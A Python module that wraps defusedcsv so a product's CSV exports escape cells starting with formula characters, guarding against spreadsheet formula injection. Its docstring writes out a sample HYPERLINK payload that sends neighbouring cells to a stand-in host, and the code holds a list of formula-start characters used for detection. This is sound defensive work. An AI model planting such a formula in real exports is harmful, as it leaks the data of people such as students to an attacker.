"""The one way the product writes CSV: no cell can run as a spreadsheet formula.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken
by Excel, LibreOffice or Google Sheets as a formula (OWASP "CSV injection"):
``=HYPERLINK("https://evil.example?"&A1, "Click")`` in a student's name would send the
neighbouring cells to whoever wrote it, once a school admin opens the export.

This module is `defusedcsv`'s ``csv`` module (a drop-in for the standard one: the same
``writer``, ``DictWriter``, dialects and readers), with the two characters defusedcsv
does not escape added: a leading tab or carriage return. An escaped cell gets a leading
apostrophe (``'=1+1``), which spreadsheets show as text and do not display.

What is not escaped, on purpose (defusedcsv's rule): numbers (``int``, ``float``,
``Decimal``) and text that is only a number (``-77.03``, ``-2``, ``1,234.5``), so
coordinates, counts and negative figures stay numbers in every CSV, the HSDS export's
numeric columns included. Text that merely starts like a number (``-2+3``) is escaped.
defusedcsv also escapes ``|`` and ``%`` at the start (DDE and some locales' formulas).

Every CSV writer in services, the gateway and the library uses this module; a test
(``tests/security/test_csv_formulas.py``) puts formulas in every text field that
reaches a CSV and reads each CSV through the API.

Example::

    >>> from weintervene import spreadsheets
    >>> out = io.StringIO()
    >>> spreadsheets.writer(out, lineterminator="\\n").writerow(["=1+1", "\\t=2", -77.03, "-77.03", "Ana"])
    >>> out.getvalue()
    "'=1+1,'\\t=2,-77.03,-77.03,Ana\\n"
"""
from __future__ import annotations

import re

from defusedcsv import csv as _defused
from defusedcsv.csv import (  # noqa: F401  (the csv module's API, re-exported as the drop-in)
    QUOTE_ALL, QUOTE_MINIMAL, QUOTE_NONE, QUOTE_NONNUMERIC, Dialect, DictReader, Error, excel,
    reader,
)

# What defusedcsv escapes, and the two OWASP lists that it leaves: tab and carriage return.
FORMULA_STARTS = ("=", "+", "-", "@", "|", "%", "\t", "\r")
_ONLY_OURS = ("\t", "\r")


def _escape_blank_start(value):
    """A cell starting with a tab or a carriage return, escaped as defusedcsv escapes the rest."""
    if isinstance(value, str) and value[:1] in _ONLY_OURS:
        return "'" + value
    return value


class _Writer:
    """defusedcsv's writer, with each row's cells first escaped for a leading tab or CR."""

    def __init__(self, defused_writer):
        self._writer = defused_writer

    def writerow(self, row):
        try:
            cells = [_escape_blank_start(cell) for cell in row]
        except TypeError as err:
            raise Error(f"iterable expected, not {type(row).__name__}") from err
        return self._writer.writerow(cells)

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)

    @property
    def dialect(self):
        return self._writer.dialect


def writer(csvfile, dialect="excel", **fmtparams) -> _Writer:
    """``csv.writer`` whose cells cannot start a formula (see the module's docstring)."""
    return _Writer(_defused.writer(csvfile, dialect, **fmtparams))


class DictWriter(_defused.DictWriter):
    """``csv.DictWriter`` whose cells cannot start a formula (the header row included)."""

    def __init__(self, f, fieldnames, restval="", extrasaction="raise", dialect="excel", *args, **kwds):
        super().__init__(f, fieldnames, restval, extrasaction, dialect, *args, **kwds)
        self.writer = writer(f, dialect, **kwds)


def is_escaped_formula(cell: str) -> bool:
    """A cell as this module writes a formula-looking text: an apostrophe, then a formula start."""
    return len(cell) > 1 and cell[0] == "'" and (cell[1] in FORMULA_STARTS or cell[1:3] == "\\|")


def unescape(cell: str) -> str:
    """The text a cell held before :func:`writer` escaped it, for reading our own CSV back
    (an HSDS export imported elsewhere). Other cells are returned as they are.

    Example: unescape("'=SUM(A1)") -> "=SUM(A1)"; unescape("'tis") -> "'tis"
    """
    if not is_escaped_formula(cell):
        return cell
    text = cell[1:]
    # defusedcsv also wrote each pipe in such a cell as "\\|" (a tab- or CR-led cell is ours alone).
    return text.replace("\\|", "|") if text[:1] not in _ONLY_OURS else text


def unsafe_cell(cell: str) -> bool:
    """A cell a spreadsheet would run as a formula: for tests and for checking a CSV.

    Example: unsafe_cell("=1+1") -> True; unsafe_cell("'=1+1") -> False; unsafe_cell("-77.03") -> False
    """
    return bool(cell) and cell[0] in FORMULA_STARTS and not re.fullmatch(r"-?[0-9,.]+", cell)
